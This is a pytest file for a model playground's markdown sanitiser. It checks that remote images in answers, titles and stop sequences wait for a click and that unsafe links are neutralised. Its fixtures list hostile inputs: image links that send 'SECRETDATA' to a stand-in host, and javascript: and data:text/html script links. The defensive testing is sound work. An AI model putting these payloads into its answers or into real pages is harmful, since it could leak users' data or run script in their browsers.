"""Outside markdown made safe (#21.6): no remote image drawn before a click, no unsafe link, names as plain text."""

from __future__ import annotations

import pytest
from markdown_it import MarkdownIt
from streamlit.testing.v1 import AppTest

from tests.support.playground import APP, open_playground, pick, send
from ui.safe_markdown import clean, is_safe_link, plain

LEAK = "http://127.0.0.1:9/leak.png?d=SECRETDATA"
# What Streamlit's renderer would see: CommonMark with tables, every link kept so a test can judge it.
_md = MarkdownIt("commonmark").enable(["table", "strikethrough"])
_md.validateLink = lambda url: True


def drawn(text: str) -> tuple[list[str], list[str]]:
    """(remote image sources, unsafe link targets) a renderer would draw from `text`."""
    images, links = [], []
    todo = list(_md.parse(text))
    while todo:
        t = todo.pop()
        todo += t.children or []
        if t.type == "image" and not t.attrGet("src").startswith("data:image/png;"):
            images.append(t.attrGet("src"))
        if t.type == "link_open" and not is_safe_link(t.attrGet("href")):
            links.append(t.attrGet("href"))
    return images, links


ATTACKS = [
    f"Here is the chart: ![chart]({LEAK}) done",
    f"![ref][r]\n\n[r]: {LEAK}",
    f"![ref]\n\n[ref]: {LEAK} \"title\"",
    f"[![inside a link]({LEAK})](https://example.com)",
    f"[![inside a bad link]({LEAK})](javascript:alert(1))",
    f"> quoted ![q]({LEAK})\n> and more",
    f"> broken over lines ![alt\n> text]({LEAK}) tail",
    f"- item ![i]({LEAK})\n  - nested ![n]({LEAK}) and [x](javascript:void(0))",
    f"1. ![a]({LEAK})\n\n   ![b]({LEAK})",
    f"# Heading ![h]({LEAK}) ##",
    f"| a | b |\n|---|---|\n| ![t]({LEAK}) | `![t]({LEAK})` |",
    f"`![code]({LEAK})` and then ![real]({LEAK})",
    f"![a](<{LEAK} >) and ![b]({LEAK} 'title') and ![c](//127.0.0.1:9/x)",
    "[run](javascript:alert(1)) [open](data:text/html,<script>alert(2)</script>) [v](vbscript:x) [J](JaVaScRiPt:x)",
    "<javascript:alert(1)> and <data:text/html,hi>",
    f"*emphasis ![e]({LEAK})* and **strong [x](javascript:y)**",
    f"Setext ![s]({LEAK})\n===",
    f"old\rline ends\r\r![cr]({LEAK})\r\n\r\n![crlf]({LEAK})",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_no_remote_image_and_no_unsafe_link_survives(text):
    images, links = drawn(text)
    assert images or links  # the attack is real: a renderer would draw it
    out = clean(text)
    assert drawn(out.text) == ([], []), out.text


@pytest.mark.parametrize("text", [a for a in ATTACKS if "![" in a])
def test_a_held_image_names_where_it_points(text):
    out = clean(text)
    assert out.held_images >= 1
    assert "not loaded" in out.text or "\\!\\[" in out.text  # a placeholder, or the syntax shown as text


def test_the_placeholder_shows_the_address_and_the_description():
    out = clean(f"Here is the chart: ![chart]({LEAK}) done")
    assert out.text == f"Here is the chart: :material/hide_image: image *chart* not loaded: `{LEAK}` done"
    assert out.held_images == 1


def test_asked_for_images_are_drawn_and_unsafe_links_still_are_not():
    text = f"![chart]({LEAK}) and [run](javascript:alert(1))"
    out = clean(text, images=True)
    assert drawn(out.text) == ([LEAK], [])
    assert out.held_images == 0


def test_code_and_plain_text_are_left_as_written():
    for text in ["no links here", "```\n![x](http://a/b)\n```", "    ![indented code](http://a/b)",
                 "a [fine link](https://example.com) and <https://example.com/auto>",
                 "![inline](data:image/png;base64,AA)", "`![x](http://a/b)` only in code"]:
        assert clean(text).text == text


def test_a_name_is_plain_text():
    for name in [f"Mini ![logo]({LEAK})", "[click](javascript:x)", "**bold** _it_ `code` :red[red] $x^2$",
                 "# heading", "- list", "1. list", "<b>html</b>", "a | b"]:
        tokens = _md.parse(plain(name))
        kinds = {c.type for t in tokens for c in (t.children or [])}
        assert kinds <= {"text"}, (name, kinds)
        assert [t.type for t in tokens] == ["paragraph_open", "inline", "paragraph_close"], name


def test_an_answers_image_waits_for_the_readers_click_in_the_playground():
    at = pick(open_playground(), "echo")
    send(at, f"Show ![chart]({LEAK})")
    texts = [m.value for m in at.markdown]
    assert not [t for t in texts if drawn(t)[0]], "no remote image is drawn before the click"
    assert any(f"image *chart* not loaded: `{LEAK}`" in t for t in texts)
    buttons = [b for b in at.button if b.label == "Load 1 image from outside"]
    assert len(buttons) == 2  # the prompt and the echoed answer, each its own
    buttons[1].click().run()
    texts = [m.value for m in at.markdown]
    assert sum(1 for t in texts if drawn(t)[0] == [LEAK]) == 1  # only the message whose images were asked for
    assert len([b for b in at.button if b.label == "Load 1 image from outside"]) == 1


def test_a_conversation_title_and_a_linked_stop_sequence_are_plain_text():
    at = AppTest.from_file(APP, default_timeout=60)
    at.query_params["p"] = f"0:echo|stop=![s]({LEAK})"  # a shared link sets the stop sequence
    at.run()
    send(at, f"![t]({LEAK}) title")
    titles = [b.label for b in at.sidebar.button if b.key and b.key.startswith("pg_open_")]
    assert titles and all(drawn(t) == ([], []) and "\\!\\[t\\]" in t for t in titles), titles
    captions = [c.value for c in at.caption if c.value.startswith(":material/tune:")]
    assert captions and all(drawn(c) == ([], []) for c in captions), captions
    assert any("stop" in c and "\\!\\[s\\]" in c for c in captions), captions


def test_the_catalogs_test_reply_holds_its_images_back():
    at = open_playground()
    at.switch_page("pages/catalog.py").run()
    at.selectbox(key="test_model").set_value("echo").run()
    at.text_input(key="test_prompt").set_value(f"![x]({LEAK})").run()
    at.button(key="test_send").click().run()
    assert not at.exception, at.exception
    replies = [s.value for s in at.success if "Echo" in s.value]
    assert replies and all(drawn(r) == ([], []) and "image *x* not loaded" in r for r in replies), replies
